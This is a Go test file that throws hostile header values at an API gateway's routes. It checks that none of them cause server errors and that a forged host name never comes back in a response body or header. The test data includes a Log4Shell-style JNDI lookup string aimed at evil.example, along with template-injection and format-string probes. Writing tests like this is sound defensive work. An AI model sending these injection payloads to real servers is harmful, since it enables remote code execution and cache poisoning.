package api_test

import (
	"net/http"
	"strings"
	"testing"
)

// Values of headers that HTTP allows and no client of ours sends.
var hostileValues = map[string]string{
	"bytes that are no text": "\xff\xfe", "half a character": "caf\xc3", "another alphabet": "пример", "a tab": "a\tb", "quotes": `"';--`,
	"a template": "${jndi:ldap://evil.example/x} {{7*7}} %s%n", "a list": "a, b, c; d=e", "much": strings.Repeat("x", 8000), "nothing": "",
}

var (
	// bystanders are read by the gateway or a service, and no request depends on them.
	bystanders = []string{
		"User-Agent", "Accept-Language", "Accept", "Cookie", "Referer", "X-Request-Id", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto",
		"Traceparent", "Tracestate", "If-None-Match", "If-Modified-Since", "Range", "X-User-Staging-Id", "Grpc-Timeout",
	}
	// deciders are what a request is refused for.
	deciders = []string{"Authorization", "Content-Type", "Content-Encoding", "Origin", "Sec-Fetch-Site", "Stripe-Signature", "X-Hub-Signature-256", "X-Github-Event"}
)

// TestHostileHeaders: whatever is in a header, the answer is one that the
// description foresees, and it is no failure of ours.
func TestHostileHeaders(t *testing.T) {
	g := ready(t)
	_, admin := g.issuer.Admin("admin@example.com")
	for _, route := range g.served() {
		hostile := func(what string, names ...string) {
			t.Helper()
			set := func(r *http.Request) {
				for _, name := range names {
					r.Header[name] = []string{hostileValues[what]}
				}
			}
			if a := g.send(route, bearer(admin), set); a.status >= http.StatusInternalServerError {
				t.Errorf("%s with %s in %v: %d %s", route, what, names, a.status, a.body)
			}
		}
		for what := range hostileValues {
			if what == "much" { // the server takes 32 KiB of headers
				hostile(what, "User-Agent", "X-User-Staging-Id", "Cookie")
				continue
			}
			hostile(what, bystanders...)
		}
		for _, name := range deciders {
			for _, what := range []string{"bytes that are no text", "a list", "nothing"} {
				hostile(what, name)
			}
		}
	}
}

// TestAForgedHostIsNotRepeated: no answer leads, or lets a cache lead others, to a
// name that the client made up.
func TestAForgedHostIsNotRepeated(t *testing.T) {
	g := ready(t)
	_, admin := g.issuer.Admin("admin@example.com")
	const evil = "evil.example"
	g.releases.update = anUpdate()
	for _, route := range g.served() {
		a := g.send(route, bearer(admin), func(r *http.Request) { r.Host = evil },
			header("X-Forwarded-Host", evil), header("X-Forwarded-Server", evil), header("X-Forwarded-Prefix", "/"+evil), header("Forwarded", "host="+evil),
			header("X-Original-Url", "https://"+evil), header("X-Rewrite-Url", "/"+evil), header("X-Host", evil), header("Referer", "https://"+evil))
		if strings.Contains(string(a.body), evil) {
			t.Errorf("%s: the body repeats the name: %s", route, a.body)
		}
		for name, values := range a.header {
			if strings.Contains(strings.Join(values, " "), evil) {
				t.Errorf("%s: %s: %v", route, name, values)
			}
		}
	}
}
